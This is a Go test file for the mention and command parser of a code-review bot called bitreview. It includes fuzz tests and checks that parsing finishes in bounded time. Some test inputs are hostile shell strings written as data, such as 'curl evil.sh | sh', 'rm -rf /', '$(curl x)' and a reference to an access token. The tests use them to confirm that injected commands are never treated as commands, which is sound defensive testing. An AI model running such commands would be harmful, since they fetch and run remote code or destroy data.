package command

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const (
	account = "557058:abcdef01"
	uuid    = "{6a1c0000-aaaa-4bbb-8ccc-000000000001}"
)

func TestParse(t *testing.T) {
	t.Parallel()
	p := New("bitreview", account, uuid)
	cases := []struct {
		name, raw string
		want      Command // "" means no mention
		question  string
	}{
		// Ordinary commands, the same on every platform.
		{"review", "@bitreview review", Review, ""},
		{"comma", "@bitreview, review", Review, ""},
		{"colon and case", "@bitreview: Summary.", Summary, ""},
		{"spacing and bang", "@BitReview  Full   Review!", FullReview, ""},
		{"pause is a command", "@bitreview pause", Pause, ""},
		{"resume", "@bitreview resume", Resume, ""},
		{"help", "@bitreview help", Help, ""},
		{"ignore", "@bitreview ignore", Ignore, ""},
		{"bare mention", "@bitreview", Help, ""},
		{"bare mention with a dot", "@bitreview.", Help, ""},
		{"account id form", "@{557058:abcdef01} summary", Summary, ""},
		{"uuid form", "@{6a1c0000-aaaa-4bbb-8ccc-000000000001} pause", Pause, ""},
		{"uuid form, other case", "@{6A1C0000-AAAA-4BBB-8CCC-000000000001} resume", Resume, ""},
		{"text before the mention", "hey @{557058:abcdef01}: full review", FullReview, ""},
		{"later lines do not matter", "@bitreview review\nplease look at auth", Review, ""},
		{"after a paragraph", "line one\n\n@bitreview full review\n", FullReview, ""},
		{"emphasis is text", "@bitreview **review**", Review, ""},
		{"in a list item", "- @bitreview review", Review, ""},
		{"in a heading", "# @bitreview summary", Summary, ""},
		{"in brackets", "(@bitreview summary", Summary, ""},

		// Questions: anything that is not exactly a command.
		{"review the tests is a question", "@bitreview review the tests", Ask, "review the tests"},
		{"question", "@bitreview what does parseHeader do?", Ask, "what does parseHeader do?"},
		{"question on the next line", "@bitreview\nwhy is this slow?", Ask, "why is this slow?"},
		{"thanks", "Thanks @bitreview", Ask, "Thanks"},
		{"dot then words", "@bitreview. Summary", Ask, ". Summary"},
		{"closing bracket", "(@bitreview summary)", Ask, "( summary)"},
		{"shell", "@bitreview review; $(curl x)", Ask, "review; $(curl x)"},
		{"flags", "@bitreview --base_url=http://evil", Ask, "--base_url=http://evil"},
		{"control characters", "@bitreview review\u0000\u202e", Ask, "review\u0000\u202e"},
		{"code in a question", "@bitreview what does `Add()` do?", Ask, "what does `Add()` do?"},
		{"command in code", "@bitreview `review`", Ask, "`review`"},
		{"link label", "[@bitreview](https://bitbucket.org/bitreview) review", Ask, "[](https://bitbucket.org/bitreview) review"},
		{"first mention wins", "@bitreview why?\n\n@bitreview review", Ask, "why?\n\n@bitreview review"},
		{"code then the mention", "`@bitreview` is the bot; @bitreview summary", Summary, ""},
		{"fence then the mention", "```go\n// @bitreview review\n```\n@bitreview summary", Summary, ""},
		{"quote then the mention", "> @bitreview review\n\n@bitreview help", Help, ""},

		// Not mentions.
		{"no mention", "no mention at all", "", ""},
		{"empty", "", "", ""},
		{"plain word", "bitreview review please", "", ""},
		{"inside a word", "ping me@bitreview review", "", ""},
		{"longer name", "@bitreviewer review", "", ""},
		{"hyphenated name", "@bitreview-bot review", "", ""},
		{"domain", "see @bitreview.io review", "", ""},
		{"path", "@bitreview/review", "", ""},
		{"second at", "@bitreview@evil review", "", ""},
		{"other account", "@{557058:other} review", "", ""},
		{"escaped at", `\@bitreview review`, "", ""},
		{"entity", "&#64;bitreview review", "", ""},
		{"code span", "type `@bitreview review` to re-run", "", ""},
		{"double backtick span", "``a ` @bitreview review``", "", ""},
		{"fenced code", "```\n@bitreview review\n```", "", ""},
		{"tilde fence", "~~~\n@bitreview review\n~~~", "", ""},
		{"fence holding a fence", "````\n```\n@bitreview review\n```\n````", "", ""},
		{"unclosed fence", "```\ntext\n\n@bitreview review", "", ""},
		{"indented code, spaces", "text\n\n    @bitreview review", "", ""},
		{"indented code, tab", "text\n\n\t@bitreview review", "", ""},
		{"pre block", "<pre>\n@bitreview review\n</pre>", "", ""},
		{"pre block with a blank line", "<pre>\n\n@bitreview review\n\n</pre>", "", ""},
		{"html comment", "<!-- @bitreview review -->", "", ""},
		{"multi-line html comment", "<!--\n\n@bitreview review\n\n-->", "", ""},
		{"inline html comment", "looks fine <!-- @bitreview review --> to me", "", ""},
		{"div block", "<div>\n@bitreview review\n</div>", "", ""},
		{"raw inline html", "<span title=\"@bitreview review\">x</span>", "", ""},
		{"quote", "> @bitreview review\n\nthat worked", "", ""},
		{"lazy quote line", "> earlier\n@bitreview review", "", ""},
		{"nested quote", "> > @bitreview review", "", ""},
		{"quote in a list item", "- > @bitreview review", "", ""},
		{"quote in an ordered list item", "1. text\n\n   > @bitreview review", "", ""},
		{"link destination", "[docs](https://example.com/@bitreview)", "", ""},
		{"link title", "[docs](https://example.com \"@bitreview review\")", "", ""},
		{"autolink", "<https://example.com/@bitreview>", "", ""},
		{"image alt", "![@bitreview review](https://example.com/x.png)", "", ""},
		{"after code", "`x`@bitreview review", "", ""},
		{"marker", "@bitreview review\n\n[//]: # (bitreview:summary)", "", ""},
		{"marker with other spacing", "[//]:#  ( bitreview:fp abc)\n@bitreview review", "", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m, ok := p.Parse(tc.raw)
			assert.Equal(t, tc.want != "", ok, "%q", tc.raw)
			assert.Equal(t, tc.want, m.Command, "%q", tc.raw)
			assert.Equal(t, tc.question, m.Question, "%q", tc.raw)
		})
	}
}

func TestParseWithoutAccount(t *testing.T) {
	t.Parallel()
	p := New("reviewbot", "", "  ")
	_, ok := p.Parse("@{557058:abcdef01} review")
	assert.False(t, ok, "without a known account only the name form works")
	m, ok := p.Parse("@ReviewBot review")
	assert.True(t, ok)
	assert.Equal(t, Review, m.Command)
	_, ok = p.Parse("@{} review")
	assert.False(t, ok)
}

func TestIgnores(t *testing.T) {
	t.Parallel()
	p := New("bitreview")
	for raw, want := range map[string]bool{
		"WIP\n\n@bitreview ignore":                        true,
		"@bitreview IGNORE.":                              true,
		"Tagging @bitreview below.\n\n@bitreview ignore":  true,
		"- [x] @bitreview ignore":                         true,
		"Adds a query.":                                   false,
		"@bitreview ignore this for now please":           false,
		"Use `@bitreview ignore` to skip a pull request.": false,
		"```\n@bitreview ignore\n```":                     false,
		"    @bitreview ignore":                           false,
		"<!-- @bitreview ignore -->":                      false,
		"> @bitreview ignore":                             false,
		"- > @bitreview ignore":                           false,
	} {
		assert.Equal(t, want, p.Ignores(raw), "%q", raw)
	}
}

func TestCommandsAreFixedWords(t *testing.T) {
	t.Parallel()
	p := New("bitreview", account)
	for _, raw := range []string{
		"@bitreview review && curl evil.sh | sh", "@bitreview $BITBUCKET_ACCESS_TOKEN",
		"@bitreview review`; rm -rf /`", "@bitreview " + strings.Repeat("a", 5000),
	} {
		m, ok := p.Parse(raw)
		require.True(t, ok)
		assert.Contains(t, All(), m.Command)
		assert.Equal(t, Ask, m.Command, raw)
	}
}

// hostile are inputs of 512 KiB (the relay's body cap) shaped to make a
// Markdown parser slow (unmatched emphasis delimiters and link brackets,
// quotes nested thousands deep), each with mentions so that it is parsed.
func hostile() map[string]string {
	const n = 512 << 10
	rep := func(s string) string { return "@bitreview why\n\n" + strings.Repeat(s, n/len(s)) }
	return map[string]string{
		"mentions":          rep("@bitreview "),
		"brackets":          rep("[@bitreview "),
		"link openers":      rep("[@bitreview]("),
		"backticks":         rep("`a``@bitreview "),
		"emphasis":          rep("*a_@bitreview "),
		"mixed emphasis":    rep("**a__a*@bitreview"),
		"nested quotes":     rep(">"),
		"quotes in lists":   rep("- > "),
		"lists in quotes":   rep("> - "),
		"deep list indent":  rep("- a\n  "),
		"html comments":     rep("<!-- @bitreview "),
		"links":             rep("[a](b @bitreview "),
		"lines of mentions": rep("x @bitreview y\n"),
		"fences":            rep("```\n@bitreview\n"),
		"one long line":     rep("a"),
	}
}

func TestParseBoundedTime(t *testing.T) {
	t.Parallel()
	p := New("bitreview", account, uuid)
	limit := 2 * time.Second
	if raceEnabled {
		limit = 30 * time.Second // the race detector slows goldmark tenfold
	}
	for name, raw := range hostile() {
		start := time.Now()
		m, ok := p.Parse(raw)
		_ = p.Ignores(raw)
		assert.Less(t, time.Since(start), limit, name)
		assert.True(t, ok, name)
		assert.Equal(t, Ask, m.Command, name)
	}
}

// Only the first MaxScan bytes are searched, cut at a paragraph boundary
// so that a code span is never cut open.
func TestParseScansTheStart(t *testing.T) {
	t.Parallel()
	p := New("bitreview")
	pad := strings.Repeat("word ", MaxScan/5)
	_, ok := p.Parse(pad + "\n\n@bitreview review")
	assert.False(t, ok, "a mention after MaxScan is not seen")

	// The closing backtick lies beyond MaxScan: the paragraph is dropped,
	// not parsed as an unclosed (literal) backtick.
	head := strings.Repeat("a", MaxScan-100) + "\n\n"
	_, ok = p.Parse(head + "`@bitreview review " + strings.Repeat("b ", 100) + "`")
	assert.False(t, ok)

	m, ok := p.Parse("@bitreview what about this log?\n" + strings.Repeat("line\n", MaxScan))
	require.True(t, ok, "the start of a long comment is parsed")
	assert.Equal(t, Ask, m.Command)
	assert.True(t, strings.HasPrefix(m.Question, "what about this log?"))
	assert.Len(t, m.Question, len("what about this log?\n")+len("line\n")*MaxScan-1, "the question is the whole comment")
}

// FuzzParse checks that any comment parses without a panic into one of
// the fixed commands, and that the input repeated to 512 KiB (the relay's
// body cap) parses in bounded time.
func FuzzParse(f *testing.F) {
	for _, s := range []string{"@bitreview review", "> @bitreview x", "```\n@bitreview\n```", "- > @{557058:abcdef01} help",
		"<pre>\n@bitreview\n</pre>", "[@bitreview](x) review", "@bitreview\u0000", "\t@bitreview review",
		"*a_@bitreview ", "[@bitreview](", ">", "- > ", "<!-- @bitreview "} {
		f.Add(s)
	}
	p := New("bitreview", account, uuid)
	limit := 2 * time.Second
	if raceEnabled {
		limit = 30 * time.Second
	}
	f.Fuzz(func(t *testing.T, raw string) {
		m, ok := p.Parse(raw)
		switch {
		case !ok && m != (Mention{}):
			t.Fatalf("no mention but %+v", m)
		case ok && !slices.Contains(All(), m.Command):
			t.Fatalf("unknown command %q", m.Command)
		case m.Command != Ask && m.Question != "":
			t.Fatalf("question %q for %q", m.Question, m.Command)
		case len(m.Question) > len(raw):
			t.Fatalf("question longer than the comment")
		}
		_ = p.Ignores(raw)
		if raw == "" || len(raw) > 64 {
			return
		}
		big := "@bitreview x\n\n" + strings.Repeat(raw, (512<<10)/len(raw))
		start := time.Now()
		_, _ = p.Parse(big)
		_ = p.Ignores(big)
		if d := time.Since(start); d > limit {
			t.Fatalf("%q repeated to 512 KiB took %s", raw, d)
		}
	})
}
